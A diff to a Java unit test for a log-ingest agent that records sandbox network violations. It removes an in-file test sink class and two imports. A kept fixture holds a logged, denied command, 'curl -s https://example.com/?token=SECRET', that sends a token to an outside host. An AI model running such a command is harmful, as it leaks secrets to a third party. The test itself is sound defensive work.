@@ -8,8 +8,6 @@ import dev.knockwatch.events.ViolationEvent;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
-import java.util.ArrayList;
-import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -18,38 +16,6 @@ class IngestAgentTest {
   static final String RECORD = "{\"line\":\"deny network-outbound example.com:443 (host is not on the allow list)\","
       + "\"encodedCommand\":\"eGhmSHl0bVhMLUw2UnNZdzJDclNqQQ==\",\"command\":\"curl -s https://example.com/?token=SECRET\","
       + "\"timestamp\":\"2026-11-29T18:45:32.887Z\"}";
-
-  /** Keeps what it is given; fails its next flush when told to. */
-  static final class ListSink implements EventSink {
-    final List<ViolationEvent> events = new ArrayList<>();
-    final List<RejectedLine> rejected = new ArrayList<>();
-    final List<ViolationEvent> pending = new ArrayList<>();
-    boolean failNextFlush;
-
-    @Override
-    public void publish(ViolationEvent event) {
-      pending.add(event);
-    }
-
-    @Override
-    public void reject(RejectedLine line) {
-      rejected.add(line);
-    }
-
-    @Override
-    public void flush() throws PublishException {
-      if (failNextFlush) {
-        failNextFlush = false;
-        pending.clear();
-        throw new PublishException("broker down", null);
-      }
-      events.addAll(pending);
-      pending.clear();
-    }
-
-    @Override
-    public void close() {}
-  }
 
   @TempDir Path logs;
   final ListSink sink = new ListSink();
